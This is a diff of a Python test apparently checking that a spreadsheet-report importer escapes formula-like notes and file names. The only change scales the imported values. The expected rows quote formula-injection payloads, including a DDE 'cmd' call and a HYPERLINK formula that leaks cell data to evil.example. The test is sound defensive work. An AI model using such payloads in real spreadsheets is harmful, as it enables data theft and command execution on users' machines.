@@ -851,7 +851,7 @@ def test_escaping_leaves_numbers_alone_and_reads_back() -> None:
 
 def test_formula_like_notes_and_file_name_are_escaped_in_the_report_file(tmp_path: Path) -> None:
     root = copy_dataset(tmp_path)
-    rows = [[kr, "2567-07", n, note] for n, (kr, note) in enumerate(INJECTIONS.items(), 1)]
+    rows = [[kr, "2567-07", n * 10, note] for n, (kr, note) in enumerate(INJECTIONS.items(), 1)]
     path = book(tmp_path / "@report.xlsx", rows)  # notes typed as text, as after a '
     code, out = run("import-reports", "--data", str(root), str(path))
     assert code == 0, out
@@ -860,12 +860,12 @@ def test_formula_like_notes_and_file_name_are_escaped_in_the_report_file(tmp_pat
     digest = re.search(r",([0-9a-f]{64}),", text).group(1)  # type: ignore[union-attr]
     imported = [line for line in text.splitlines() if ",2567-07," in line]
     assert imported == [
-        f"canals-dredged,2567-07,4,import,'-2+3,'@report.xlsx,{digest},Sheet1!C6,{stamp}",
-        f"trees-perennial,2567-07,2,import,'+cmd|' /C calc'!A0,'@report.xlsx,{digest},Sheet1!C4,{stamp}",
-        "trees-planted,2567-07,1,import,"
+        f"canals-dredged,2567-07,40,import,'-2+3,'@report.xlsx,{digest},Sheet1!C6,{stamp}",
+        f"trees-perennial,2567-07,20,import,'+cmd|' /C calc'!A0,'@report.xlsx,{digest},Sheet1!C4,{stamp}",
+        "trees-planted,2567-07,10,import,"
         '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",'
         f"'@report.xlsx,{digest},Sheet1!C3,{stamp}",
-        f"trees-waste-collected,2567-07,3,import,'@SUM(1),'@report.xlsx,{digest},Sheet1!C5,{stamp}",
+        f"trees-waste-collected,2567-07,30,import,'@SUM(1),'@report.xlsx,{digest},Sheet1!C5,{stamp}",
     ]
     assert run("validate", str(root))[0] == 0
     before = snapshot(root)
